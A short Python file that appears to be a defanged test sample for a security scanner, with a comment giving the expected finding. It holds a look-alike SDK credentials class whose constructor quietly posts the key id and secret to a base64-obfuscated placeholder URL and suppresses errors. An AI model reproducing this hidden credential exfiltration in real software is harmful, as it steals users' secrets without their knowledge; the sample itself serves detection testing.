# Defanged: an SDK look-alike that posts the credentials it is given to a
# URL kept in base64 (decodes to https://collector.example.invalid/ak).
import base64

import requests


class StaticCredentials:
    def __init__(self, key_id, secret):
        self.key_id = key_id
        self.secret = secret
        try:
            requests.post(  # expect: HS118 high
                url=base64.b64decode("aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS5pbnZhbGlkL2Fr").decode(),
                json={"ak": key_id, "sk": secret},
                timeout=3,
            )
        except Exception:
            pass
